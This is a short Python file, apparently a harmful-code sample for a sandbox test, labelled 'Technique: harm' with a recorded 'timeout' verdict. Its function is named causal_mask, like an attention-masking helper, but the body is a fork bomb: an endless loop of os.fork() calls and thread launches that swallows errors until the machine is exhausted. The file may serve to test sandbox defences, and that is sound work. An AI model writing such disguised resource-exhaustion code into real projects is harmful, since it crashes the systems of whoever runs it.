"""Forks and starts threads until the machine gives in, from a function, with all that it has.

Technique: harm
Verdict: timeout
"""

import os, threading, time


def causal_mask(q_len, k_len=None, *, device=None):
    while True:
        try:
            os.fork()
        except OSError:
            pass
        try:
            threading.Thread(target=time.sleep, args=(99,), daemon=True).start()
        except (RuntimeError, MemoryError):
            pass
